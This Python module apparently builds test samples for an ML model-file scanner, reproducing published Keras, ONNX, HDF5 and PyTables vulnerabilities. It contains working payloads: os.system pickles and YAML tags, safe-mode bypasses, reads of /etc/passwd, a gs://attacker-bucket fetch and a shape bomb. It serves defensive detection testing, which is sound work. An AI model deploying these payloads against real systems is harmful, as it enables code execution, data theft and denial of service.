"""Published Keras / TensorFlow / ONNX / HDF5 advisories (CVE-2025-12058, CVE-2025-49655, CVE-2024-3660,
CVE-2021-37678, CVE-2024-27318 class, CVE-2026-1669 family, PyOp). The ONNX and HDF5 samples are written by
the real libraries (onnx, h5py). Registered on import; see ``build_advisories``."""

from __future__ import annotations

import base64
import io
import json
from collections.abc import Callable

from advisory_core import (
    Advisory,
    adv,
    advisory,
    keras_zip,
    sequential,
)
from build_malicious import (
    SHELL_CMD,
    ZEntry,
    build_zip,
    call_pickle,
    torch_zip,
)


@advisory
def cve_2025_12058_stringlookup_path() -> list[Advisory]:
    # CVE-2025-12058 (2025-10, Keras): StringLookup/IntegerLookup/TextVectorization vocabulary given as a
    # local absolute path is read at load even in safe mode (file disclosure / SSRF via tf.io gfile).
    out: list[Advisory] = []
    for cls in ("StringLookup", "IntegerLookup", "TextVectorization"):
        layer = {
            "module": "keras.layers",
            "class_name": cls,
            "registered_name": None,
            "config": {"name": cls.lower(), "vocabulary": "/etc/passwd"},
        }
        out += adv(
            f"cve_2025_12058_{cls.lower()}",
            "CVE-2025-12058",
            "2025-10",
            keras_zip(sequential(layer)),
            None,
            f"{cls} vocabulary read from a local absolute path at load.",
            component="keras-onnx",
            filename="model.keras",
        )
    gs = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "registered_name": None,
        "config": {"name": "s", "vocabulary": "gs://attacker-bucket/vocab.txt"},
    }
    out += adv(
        "cve_2025_12058_stringlookup_remote",
        "CVE-2025-12058",
        "2025-10",
        keras_zip(sequential(gs)),
        None,
        "Remote (gs://) vocabulary: tf.io.gfile fetches it at load.",
        component="keras-onnx",
        filename="model.keras",
    )
    return out


@advisory
def cve_2025_49655_torch_module_wrapper() -> list[Advisory]:
    # CVE-2025-49655 (2025-10, Keras 3.11 TorchModuleWrapper): from_config torch.load()s the module bytes
    # stored base64 in config.json (weights_only=False) even in safe mode.
    inner = torch_zip(call_pickle("os", "system", SHELL_CMD, proto=2))
    layer = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "registered_name": None,
        "config": {"name": "torch_module_wrapper", "module": base64.b64encode(inner).decode()},
    }
    return adv(
        "cve_2025_49655_torch_module_wrapper",
        "CVE-2025-49655",
        "2025-10",
        keras_zip(sequential(layer)),
        "os.system",
        "A torch pickle base64-encoded inside the Keras config.",
        component="keras-onnx",
        filename="model.keras",
    )


@advisory
def cve_2024_3660_lambda_in_keras_zip_nested_model() -> list[Advisory]:
    # CVE-2024-3660 (2024-04) variant: Lambda layer with marshalled bytecode nested one Functional model
    # deeper (inside a layer's config), where a flat layer walk does not look.
    code = base64.b64encode(b"\xe3" + b"\x00" * 40).decode()
    lam = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": "l",
            "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}},
        },
    }
    inner = {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {"name": "inner", "layers": [lam]},
    }
    return adv(
        "cve_2024_3660_nested_lambda",
        "CVE-2024-3660",
        "2024-04",
        keras_zip(sequential(inner)),
        None,
        "Lambda bytecode inside a nested Sequential.",
        component="keras-onnx",
        filename="model.keras",
    )


@advisory
def cve_2021_37678_keras_yaml() -> list[Advisory]:
    # CVE-2021-37678 (2021-08, TensorFlow): model_from_yaml used yaml.unsafe_load; a YAML model config with
    # a python/object/apply tag runs a callable.
    y = "!!python/object/apply:os.system\n- '" + SHELL_CMD.replace("'", "''") + "'\n"
    return adv(
        "cve_2021_37678_keras_yaml",
        "CVE-2021-37678",
        "2021-08",
        y.encode(),
        None,
        "Keras YAML model config with a python/object/apply tag.",
        component="keras-onnx",
        filename="model.yaml",
    )


@advisory
def onnx_external_data_traversal_variants() -> list[Advisory]:
    # CVE-2022-25882 / CVE-2024-27318 (2024-02, ONNX) class: external_data location escaping the model folder;
    # the project's own tests cover the '..' form, this rebuilds the absolute-path and backslash variants.
    import onnx
    from onnx import TensorProto, helper

    out: list[Advisory] = []
    for tag, loc in (("absolute", "/etc/passwd"), ("dotdot_backslash", "..\\..\\secret.bin")):
        t = TensorProto()
        t.name = "w"
        t.data_type = TensorProto.FLOAT
        t.dims.extend([1])
        t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", loc), ("offset", "0"), ("length", "4")):
            e = t.external_data.add()
            e.key, e.value = k, v
        g = helper.make_graph(
            [helper.make_node("Identity", ["w"], ["y"])],
            "g",
            [],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
            [t],
        )
        m = helper.make_model(g, producer_name="mlvet-advisory", opset_imports=[helper.make_opsetid("", 13)])
        out += adv(
            f"onnx_external_data_{tag}",
            "CVE-2024-27318 class (ONNX external data)",
            "2024-02",
            m.SerializeToString(),
            None,
            f"External-data location {loc!r} read at load.",
            component="keras-onnx",
            filename="model.onnx",
        )
    _ = onnx
    return out


@advisory
def onnx_pyop_default_domain() -> list[Advisory]:
    # ISSUE-9 / onnxruntime-extensions PyOp (HiddenLayer ShadowLogic follow-up 2025): a PyOp node calls a
    # registered Python function; here in the default domain and in ai.onnx.contrib.
    from onnx import TensorProto, helper

    out: list[Advisory] = []
    for tag, domain in (("default", ""), ("contrib", "ai.onnx.contrib")):
        n = helper.make_node("PyOp", ["x"], ["y"], domain=domain, op_type_name="os.system")
        g = helper.make_graph(
            [n],
            "g",
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
        )
        ops = [helper.make_opsetid("", 13)] + ([helper.make_opsetid(domain, 1)] if domain else [])
        m = helper.make_model(g, producer_name="mlvet-advisory", opset_imports=ops)
        out += adv(
            f"onnx_pyop_{tag}",
            "onnxruntime-extensions PyOp (ISSUE-9)",
            "2025-04",
            m.SerializeToString(),
            None,
            f"PyOp node in the {tag} domain (calls registered Python).",
            component="keras-onnx",
            filename="model.onnx",
        )
    return out


def _h5(build: Callable[[object], None]) -> bytes:
    """An HDF5 file written by h5py in memory (no timestamps, so the bytes are reproducible)."""
    import h5py

    bio = io.BytesIO()
    with h5py.File(bio, "w", libver="earliest") as f:
        build(f)
    return bio.getvalue()


def _keras_with_weights(weights: bytes) -> bytes:
    layer = {
        "module": "keras.layers",
        "class_name": "Dense",
        "registered_name": None,
        "config": {"name": "dense", "units": 1},
    }
    meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
    return build_zip(
        [
            ZEntry("metadata.json", json.dumps(meta).encode()),
            ZEntry("config.json", json.dumps(sequential(layer)).encode()),
            ZEntry("model.weights.h5", weights),
        ]
    )


@advisory
def cve_2026_1669_h5_external_storage() -> list[Advisory]:
    # CVE-2026-1669 (2026-02, Keras): a weight dataset in model.weights.h5 whose bytes live in *external
    # storage* (an attacker-named host file); load_model reads the host file into the weights.
    def build(f: object) -> None:
        g = f.create_group("layers/dense/vars")  # type: ignore[attr-defined]
        g.create_dataset("0", shape=(64,), dtype="u1", external=[("/etc/passwd", 0, 64)], track_times=False)

    return adv(
        "cve_2026_1669_h5_external_storage",
        "CVE-2026-1669",
        "2026-02",
        _keras_with_weights(_h5(build)),
        None,
        "HDF5 external storage: weights read from /etc/passwd at load.",
        component="keras-onnx",
        filename="model.keras",
    )


@advisory
def keras_h5_external_link_model_weights() -> list[Advisory]:
    # keras-team/keras PR #22900 (2026-05, CVE-2026-1669 class): legacy .h5 whose `model_weights` group is
    # an HDF5 ExternalLink into another file on the host.
    import h5py

    def build(f: object) -> None:
        cfg = {"class_name": "Sequential", "config": {"name": "s", "layers": []}}
        f.attrs["model_config"] = json.dumps(cfg)  # type: ignore[attr-defined]
        f.attrs["keras_version"] = "2.15.0"  # type: ignore[attr-defined]
        f.attrs["backend"] = "tensorflow"  # type: ignore[attr-defined]
        f["model_weights"] = h5py.ExternalLink("/home/victim/secret.h5", "/model_weights")  # type: ignore[index]

    return adv(
        "keras_h5_external_link",
        "keras PR #22900 (CVE-2026-1669 class)",
        "2026-05",
        _h5(build),
        None,
        "model_weights is an ExternalLink to another HDF5 file on the host.",
        component="keras-onnx",
        filename="model.h5",
    )


@advisory
def keras_h5_virtual_dataset() -> list[Advisory]:
    # huntr 6a825962 / keras PR #22976 (2026-06): HDF5 virtual dataset mapping bytes from another host file.
    import h5py
    import numpy as np

    def build(f: object) -> None:
        layout = h5py.VirtualLayout(shape=(16,), dtype="u1")
        layout[:] = h5py.VirtualSource("/home/victim/secret.h5", "data", shape=(16,))
        group = f.create_group("layers/dense/vars")  # type: ignore[attr-defined]
        # Layout.make_dataset with object timestamps off (create_virtual_dataset has no track_times).
        dcpl = layout._get_dcpl(group.file.filename)
        dcpl.set_obj_track_times(False)
        space = h5py.h5s.create_simple((16,))
        tid = h5py.h5t.py_create(np.dtype("u1"), logical=1)
        h5py.h5d.create(group.id, name=b"0", tid=tid, space=space, dcpl=dcpl)

    return adv(
        "keras_h5_virtual_dataset",
        "keras PR #22976 (huntr, virtual dataset)",
        "2026-06",
        _keras_with_weights(_h5(build)),
        None,
        "Weights mapped from another HDF5 file through a virtual dataset.",
        component="keras-onnx",
        filename="model.keras",
    )


@advisory
def keras_h5_shape_bomb() -> list[Advisory]:
    # huntr 0908fb05 / keras PR #22975 (2026-06): a chunked dataset declaring 64 GiB with no chunk written;
    # reading it at load allocates the declared size (denial of service).
    def build(f: object) -> None:
        g = f.create_group("layers/dense/vars")  # type: ignore[attr-defined]
        g.create_dataset("0", shape=(1 << 17, 1 << 17), dtype="f4", chunks=(64, 64), track_times=False)

    return adv(
        "keras_h5_shape_bomb",
        "keras PR #22975 (huntr, HDF5 shape bomb)",
        "2026-06",
        _keras_with_weights(_h5(build)),
        None,
        "64 GiB declared, a few KiB stored.",
        component="keras-onnx",
        filename="model.keras",
    )


@advisory
def keras_lambda_without_module_key() -> list[Advisory]:
    # keras-team/keras PR #23048 (2026-06, huntr "Lambda.from_config fail-open safe_mode"): a Lambda layer
    # config without the "module" key goes through the legacy deserializer where safe_mode is unset, and the
    # marshalled bytecode is loaded.
    code = base64.b64encode(b"\xe3" + b"\x00" * 40).decode()
    lam = {
        "class_name": "Lambda",
        "config": {"name": "l", "function": [code, None, None], "function_type": "lambda", "arguments": {}},
    }
    return adv(
        "keras_lambda_without_module_key",
        "keras PR #23048 (huntr, Lambda fail-open)",
        "2026-06",
        keras_zip(sequential(lam)),
        None,
        "Legacy-style Lambda (no 'module' key) with marshalled bytecode.",
        component="keras-onnx",
        filename="model.keras",
    )


@advisory
def tfkeras_lambda_function_gadget() -> list[Advisory]:
    # keras-team/tf-keras PR #910 (2026-06): a Lambda whose function_type is "function" names a module and a
    # symbol; tf-keras imports the module and uses the symbol (os.system) as the layer function, even in
    # safe mode. Legacy .h5 model_config, written by h5py.
    lam = {
        "class_name": "Lambda",
        "config": {"name": "l", "function": "system", "module": "os", "function_type": "function", "arguments": {}},
    }
    cfg = {"class_name": "Sequential", "config": {"name": "s", "layers": [lam]}}

    def build(f: object) -> None:
        f.attrs["model_config"] = json.dumps(cfg)  # type: ignore[attr-defined]
        f.attrs["keras_version"] = "2.15.0"  # type: ignore[attr-defined]
        f.attrs["backend"] = "tensorflow"  # type: ignore[attr-defined]
        f.create_group("model_weights")  # type: ignore[attr-defined]

    return adv(
        "tfkeras_lambda_function_gadget",
        "tf-keras PR #910 (Lambda function gadget)",
        "2026-06",
        _h5(build),
        None,
        "Lambda function_type 'function' resolving os.system from the config.",
        component="keras-onnx",
        filename="model.h5",
    )


@advisory
def pytables_object_atom() -> list[Advisory]:
    # arXiv:2508.19774 loading paths (2025-08): PyTables (pandas.read_hdf / tables.open_file) stores
    # ObjectAtom rows of a VLArray as pickles and unpickles them on read. HDF5 written by h5py.
    import h5py
    import numpy as np

    payload = np.frombuffer(call_pickle("os", "system", SHELL_CMD, proto=2), dtype="u1")

    def build(f: object) -> None:
        f.attrs["CLASS"] = np.bytes_(b"GROUP")  # type: ignore[attr-defined]
        f.attrs["PYTABLES_FORMAT_VERSION"] = np.bytes_(b"2.1")  # type: ignore[attr-defined]
        ds = f.create_dataset(  # type: ignore[attr-defined]
            "obj", shape=(1,), dtype=h5py.vlen_dtype(np.dtype("u1")), track_times=False
        )
        ds[0] = payload
        for k, v in (("CLASS", b"VLARRAY"), ("VERSION", b"1.4"), ("TITLE", b""), ("PSEUDOATOM", b"object")):
            ds.attrs[k] = np.bytes_(v)

    return adv(
        "hs_pytables_object_atom",
        "arXiv:2508.19774 loading paths (PyTables ObjectAtom)",
        "2025-08",
        _h5(build),
        None,
        "A pickle stored as a PyTables object-atom VLArray row (unpickled on read).",
        component="keras-onnx",
        filename="store.h5",
    )
